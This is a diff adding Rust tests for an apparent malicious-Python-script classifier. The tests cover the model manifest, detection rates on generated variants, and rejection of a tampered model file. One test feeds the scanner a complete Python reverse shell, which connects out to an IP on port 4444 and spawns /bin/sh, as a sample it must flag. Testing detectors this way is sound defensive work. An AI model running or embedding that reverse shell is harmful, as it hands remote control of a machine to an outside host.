@@ -1,0 +1,107 @@
+//! The committed model: manifest, refusal of mismatches, and scores on fresh runtime variants.
+use std::path::PathBuf;
+
+use ward_ml::templates::{self, variants};
+use ward_ml::{features, scan, Model, PythonClassifier, ScriptClassifier, MODEL_FORMAT_VERSION};
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn model() -> Model {
+    Model::load(&root().join("../../models/python/model.bin")).expect("committed model loads")
+}
+
+#[test]
+fn manifest_matches_code() {
+    let m = model();
+    let man = &m.manifest;
+    assert_eq!(man.format_version, MODEL_FORMAT_VERSION);
+    assert_eq!(man.feature_set_hash, features::feature_set_hash());
+    assert!(
+        man.threshold > 0.5 && man.threshold < 1.0,
+        "{}",
+        man.threshold
+    );
+    assert!(m.id().starts_with("ward-python-v1 (sha256:"));
+    assert!(man
+        .data
+        .iter()
+        .any(|d| d.kind == "malicious-pack" && d.scripts > 1000));
+    assert!(man.data.iter().any(|d| d.kind == "wheel"));
+    assert!(man
+        .metrics
+        .get("roc_auc")
+        .and_then(|v| v.as_f64())
+        .is_some_and(|a| a > 0.9));
+    let size = std::fs::metadata(root().join("../../models/python/model.bin"))
+        .unwrap()
+        .len();
+    assert!(size <= 20 << 20);
+    // The JSON manifest next to the model is the same manifest.
+    let j: ward_ml::Manifest = serde_json::from_str(
+        &std::fs::read_to_string(root().join("../../models/python/manifest.json")).unwrap(),
+    )
+    .unwrap();
+    assert_eq!(&j, man);
+}
+
+#[test]
+fn fresh_variants_are_separated() {
+    // Fresh seeds: new names, hosts, ports and wrapper draws. The templates themselves were
+    // in training, so this is a smoke test of the shipped model, not a metric.
+    let clf = PythonClassifier::new(model());
+    let dir = root().join("data");
+    let mal = templates::load_templates(&dir.join("runtime-templates.tpl.gz")).unwrap();
+    let ben = templates::load_templates(&dir.join("benign-templates.tpl.gz")).unwrap();
+    let (mut hit, mut n) = (0, 0);
+    for t in &mal {
+        for v in variants(t, 15, 0xfeed, true) {
+            n += 1;
+            hit += clf.classify(v.text.as_bytes()).malicious as usize;
+        }
+    }
+    let (mut fp, mut nb) = (0, 0);
+    for t in &ben {
+        for v in variants(t, 4, 0xfeed, false) {
+            nb += 1;
+            fp += clf.classify(v.text.as_bytes()).malicious as usize;
+        }
+    }
+    assert!(
+        hit as f64 >= 0.9 * n as f64,
+        "{hit}/{n} malicious variants flagged"
+    );
+    assert!(
+        fp as f64 <= 0.05 * nb as f64,
+        "{fp}/{nb} benign variants flagged"
+    );
+}
+
+#[test]
+fn reasons_and_not_python() {
+    let m = model();
+    let r = scan(
+        &m,
+        b"import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n",
+    );
+    assert!(r.malicious, "{r:?}");
+    assert!(!r.top_reasons.is_empty() && r.top_reasons.len() <= 5);
+    let r = scan(&m, b"\x7fELF\x02\x01\x01\x00\x00\x00");
+    assert!(!r.malicious);
+    assert!(r.not_python.as_deref().unwrap_or("").contains("ELF"));
+    let clf = PythonClassifier::new(m);
+    let v = clf.classify(b"print('hello, world')\n");
+    assert!(!v.malicious, "{v:?}");
+    assert!(v.score < v.threshold);
+}
+
+#[test]
+fn loader_refuses_tampering() {
+    let bytes = std::fs::read(root().join("../../models/python/model.bin")).unwrap();
+    let mut b = bytes.clone();
+    let n = b.len();
+    b[n / 2] ^= 0x55;
+    assert!(Model::from_bytes(&b).is_err());
+    assert!(Model::from_bytes(&bytes[..n - 1]).is_err());
+}
